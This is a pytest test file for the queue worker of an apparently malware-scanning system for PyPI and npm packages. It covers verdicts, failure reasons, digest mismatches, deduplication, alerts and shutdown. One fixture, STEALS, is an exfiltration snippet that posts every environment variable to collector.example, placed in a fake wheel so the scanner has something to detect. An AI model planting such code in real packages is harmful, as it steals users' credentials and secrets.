"""A worker on a queue: each job ends with a result or a reason, once, whatever package and registry do."""

import asyncio
import hashlib
import os
import signal
import subprocess
import sys
import time
import uuid
from collections.abc import Awaitable, Callable, Iterator
from pathlib import Path

import msgspec
import psycopg
import pytest
from tests.registry import StandIn, build

from biopsy import queue
from biopsy.ecosystems.npm import configuration as npm
from biopsy.ecosystems.pypi import configuration as pypi
from biopsy.model.job import Job, Lane
from biopsy.model.release import Release
from biopsy.pipeline.work.coming import Setting
from biopsy.pipeline.work.doing import DOER
from biopsy.pipeline.work.messages import Place
from biopsy.pipeline.work.metrics import Metrics
from biopsy.pipeline.work.processes import Processes
from biopsy.pipeline.work.worker import Bounds, Worker
from biopsy.reports.database import Database
from biopsy.warehouse import Warehouse

STEALS = (
    "import os, urllib.request\n"
    "urllib.request.urlopen('https://collector.example/in', data=repr(dict(os.environ)).encode())\n"
)
LONG_AGO = "2000-01-01T00:00:00Z"
WORKER = queue.Worker("w", ("pypi", "npm"), 2, grace=0.0)

THING = [build.wheel("thing", "1.0", {"thing/__init__.py": STEALS}), build.sdist("thing", "1.0")]
GONE = f"sha256:{'0' * 64}"


def sha256(data: bytes) -> str:
    return f"sha256:{hashlib.sha256(data).hexdigest()}"


def release(name: str, version: str = "", ecosystem: str = "pypi") -> Release:
    return Release(ecosystem, name, version)


@pytest.fixture(scope="module")
def place(_postgres: str, _template: str) -> Iterator[str]:
    """A database for all that this file does."""
    name = f"test_{uuid.uuid4().hex}"
    with psycopg.connect(_postgres, autocommit=True) as made:
        made.execute(f"CREATE DATABASE {name} TEMPLATE {_template}")
        yield f"{_postgres} dbname={name}"
        made.execute(f"DROP DATABASE {name} WITH (FORCE)")


@pytest.fixture(scope="module")
def registry() -> Iterator[StandIn]:
    with StandIn() as made, pytest.MonkeyPatch.context() as patch:
        for name, value in made.environment().items():
            patch.setenv(name, value)
        patch.setenv(
            "PYTHONPATH", os.pathsep.join([str(Path(__file__).parent), os.environ.get("PYTHONPATH", "")])
        )
        patch.setattr("biopsy.queue.ends.FIRST_WAIT", 0.1)
        patch.setattr("biopsy.pipeline.work.messages.send", note)
        for configuration in (pypi, npm):
            configuration.endpoint.cache_clear()
        yield made
        for configuration in (pypi, npm):
            configuration.endpoint.cache_clear()


Came = tuple[dict[tuple[str, str], list[queue.Result]], dict[str, str], Path]
SENT: list[tuple[str, str]] = []


def note(_place: Place, _number: int, kind: str, payload: dict[str, str], _made: float) -> str:
    """Take a message instead of a chat."""
    SENT.append((kind, payload["purl"]))
    return ""


@pytest.fixture(scope="module")
def came(tmp_path_factory: pytest.TempPathFactory, place: str, registry: StandIn, cache: Path) -> Came:
    """What everything came to: by release and digest, with what is parked."""
    home = tmp_path_factory.mktemp("home")
    (home / "cache").symlink_to(cache)
    registry.publish("pypi", "thing", "1.0", THING)
    registry.publish("npm", "@scope/other", "1.0.0", [build.tgz("@scope/other", "1.0.0")])
    registry.publish("pypi", "broken", "1.0", [("broken-1.0.tar.gz", b"\x1f\x8b\x08 no archive")])
    registry.publish("pypi", "forged", "1.0", [build.wheel("forged", "1.0")])
    registry.mischief.add("garbage", "forged-1.0-py3", times=99)
    registry.mischief.add("status", "/simple/away/", times=4, status=503)
    for name, versions in {"again": ("1.0", "1.1"), "away": ("1.0",)}.items():
        for version in versions:
            registry.publish("pypi", name, version, [build.wheel(name, version)])
    again = sha256(build.wheel("again", "1.1")[1])
    first = (
        *(Job(release(name), published=LONG_AGO) for name in ("thing", "broken", "nowhere")),
        Job(release("@scope/other", "", "npm"), published=LONG_AGO),
        *(Job(release(name, "1.0")) for name in ("forged", "away")),
        Job(release("again", "1.1")),
        Job(release("thing", "1.0"), GONE, "thing-1.0.zip", published=LONG_AGO),
    )

    async def main() -> Came:
        setting = msgspec.json.encode(Setting(str(home), static_only=True)).decode()
        async with (
            queue.open(queue.Settings(home, place)) as opened,
            Processes(home, DOER, setting) as processes,
        ):
            taken_back = Job(release("thing", "1.0"), sha256(THING[0][1]), THING[0][0], published=LONG_AGO)
            for number, jobs in enumerate((first, (Job(release("again", "1.1"), again),), (taken_back,))):
                if number == 2:
                    registry.world.delete("pypi", "thing", "1.0")
                await opened.enqueue(jobs, again=number == 2)
                bounds = Bounds(until_empty=True)
                places = {"chat": Place("https://chat.example")}
                await Worker(opened, processes, home, bounds=bounds, places=places, metrics=Metrics()).run(
                    WORKER
                )
            found: dict[tuple[str, str], list[queue.Result]] = {}
            for one in await opened.results():
                found.setdefault((one.purl, one.digest), []).append(one)
            return found, {e.job.release.purl: e.reason for e in await opened.parked()}, home

    return asyncio.run(main())


def test_a_look_leads_to_every_new_artifact_and_each_to_one_verdict(came: Came) -> None:
    told = {key: [(r.outcome, r.verdict) for r in results] for key, results in came[0].items()}
    assert told["pkg:pypi/thing", ""] == told["pkg:npm/%40scope/other", ""] == [("looked", "")]
    wheel, sdist = (("pkg:pypi/thing@1.0", sha256(data)) for _, data in THING)
    assert told[wheel][0] == ("analysed", "malicious")
    assert told[sdist] == [("analysed", "unknown")]
    assert [v for (purl, _), v in told.items() if purl == "pkg:npm/%40scope/other@1.0.0"] == [
        [("analysed", "unknown")]
    ]


def test_what_can_never_come_to_a_verdict_has_a_reason(came: Came) -> None:
    results = came[0]
    (broken,) = (rs[0] for (purl, _), rs in results.items() if purl == "pkg:pypi/broken@1.0")
    (nowhere,) = results["pkg:pypi/nowhere", ""]
    (gone,) = results["pkg:pypi/thing@1.0", GONE]
    assert [(r.outcome, r.reason) for r in (broken, nowhere, gone)] == [
        ("nothing", "unreadable"),
        ("nothing", "no-such-release"),
        ("nothing", "no-such-artifact"),
    ]


def test_a_file_that_is_not_what_was_announced_waits_for_a_person(came: Came) -> None:
    assert came[1] == {"pkg:pypi/forged@1.0": "digest-differs"}


def test_what_its_registry_took_back_is_analysed_again_from_the_bytes_that_are_kept(came: Came) -> None:
    ends = [(r.outcome, r.verdict) for r in came[0]["pkg:pypi/thing@1.0", sha256(THING[0][1])]]
    assert ends == [("analysed", "malicious")] * 2


def test_a_registry_that_is_away_for_a_moment_costs_nothing(came: Came) -> None:
    assert [r.outcome for r in came[0]["pkg:pypi/away@1.0", ""]] == ["analysed"]


def test_the_same_bytes_are_analysed_once_whoever_asks(came: Came) -> None:
    results, _, home = came
    (made,) = results["pkg:pypi/again@1.1", ""]
    (known,) = results["pkg:pypi/again@1.1", sha256(build.wheel("again", "1.1")[1])]
    assert (known.outcome, known.run_ids, known.key) == ("known", made.run_ids, made.key)
    assert len(list(Warehouse(home).of(release("again", "1.1")))) == 1


def test_what_is_malicious_is_drafted_as_a_report(came: Came) -> None:
    database = Database(came[2] / "reports.db")
    try:
        assert database.lookup("pypi/thing")
        assert not database.lookup("pypi/again")
    finally:
        database.close()


def test_people_hear_of_what_is_malicious_and_of_what_is_parked(came: Came) -> None:
    assert came
    assert sorted(SENT) == [
        ("parked", "pkg:pypi/forged@1.0"),
        *[("verdict", "pkg:pypi/thing@1.0")] * 2,
    ]


def test_exact_bytes_are_kept_and_nothing_else_is_left(came: Came) -> None:
    home = came[2]
    kept = {path.stem for path in (home / "store" / "artifacts").rglob("*.wrapped")}
    assert {sha256(data).removeprefix("sha256:") for _, data in THING} <= kept
    assert not list((home / "tmp").iterdir())
    assert not [*(home / "run").glob("*"), *(home / "artifacts").glob("*")]


Meanwhile = Callable[[queue.Queue, Worker], Awaitable[None]]


def meanwhile(
    home: Path, dsn: str, jobs: tuple[Job, ...], bounds: Bounds, do: Meanwhile
) -> list[queue.Entry]:
    """Let a worker have jobs that hang, do something meanwhile; give what the queue then says of the jobs."""

    async def main() -> list[queue.Entry]:
        async with (
            queue.open(queue.Settings(home, dsn)) as opened,
            Processes(home, "doers:hang", "") as processes,
        ):
            places: dict[str, Place] = {}
            worker = Worker(opened, processes, home, bounds=bounds, places=places, metrics=Metrics())
            await opened.enqueue(jobs)
            running = asyncio.create_task(worker.run(WORKER))
            await do(opened, worker)
            await running
            return [*await opened.jobs()]

    return asyncio.run(main())


async def _begun(worker: Worker, count: int) -> None:
    while len(worker._running) < count:  # noqa: ASYNC110 - nothing of a worker tells a test so
        await asyncio.sleep(0.02)
    await asyncio.sleep(0.2)


def test_told_twice_to_end_a_worker_gives_back_what_runs_uncounted(
    tmp_path: Path, dsn: str, registry: StandIn
) -> None:
    async def twice(_: queue.Queue, worker: Worker) -> None:
        await _begun(worker, 2)
        worker.drain()
        worker.drain()

    began = time.monotonic()
    jobs = tuple(Job(release(name, "1.0")) for name in ("a", "b"))
    left = meanwhile(tmp_path, dsn, jobs, Bounds(), twice)
    assert [(entry.state, entry.attempts) for entry in left] == [("waiting", 0)] * 2
    assert time.monotonic() - began < 15
    assert not list((tmp_path / "tmp").iterdir())


def test_on_a_full_disk_nothing_begins_no_attempt_counts_and_people_are_told_once(
    tmp_path: Path, dsn: str, registry: StandIn
) -> None:
    told: list[str] = []

    async def look(opened: queue.Queue, worker: Worker) -> None:
        while len(await opened.jobs(reason="disk-full")) < 2:  # noqa: ASYNC110 - another process says so
            await asyncio.sleep(0.05)
        told.extend(one.kind for one in await opened.untold())
        worker.drain()

    jobs = tuple(Job(release(name, "1.0")) for name in ("a", "b"))
    left = meanwhile(tmp_path, dsn, jobs, Bounds(floor=1 << 62), look)
    assert [(entry.state, entry.attempts, entry.reason) for entry in left] == [
        ("waiting", 0, "disk-full")
    ] * 2
    assert told in ([], ["trouble"])  # the worker may have been faster to send it nowhere


def test_the_command_does_a_job_and_ends_in_order_when_it_is_terminated(
    tmp_path: Path, dsn: str, registry: StandIn, cache: Path
) -> None:
    (tmp_path / "cache").symlink_to(cache)
    registry.publish("pypi", "commanded", "1.0", [build.wheel("commanded", "1.0")])

    async def enqueue() -> None:
        async with queue.open(queue.Settings(tmp_path, dsn)) as opened:
            await opened.enqueue([Job(release("commanded", "1.0"), lane=Lane.MANUAL)])

    asyncio.run(enqueue())
    command = [sys.executable, "-m", "biopsy.cli", "worker", "--static-only", "--metrics", "127.0.0.1:0"]
    environment = {**os.environ, "BIOPSY_HOME": str(tmp_path), "BIOPSY_DSN": dsn}
    with subprocess.Popen(command, env=environment, stderr=subprocess.PIPE, text=True) as worker:
        assert worker.stderr is not None
        lines: list[dict[str, object]] = []
        for line in worker.stderr:
            lines.append(msgspec.json.decode(line))
            if lines[-1]["event"] == "job analysed":
                worker.send_signal(signal.SIGTERM)
        assert worker.wait(20) == 0
    events = [line["event"] for line in lines]
    assert events == ["metrics", "worker begins", "job analysed", "worker drains", "worker ended"]
    assert lines[2]["run_id"]
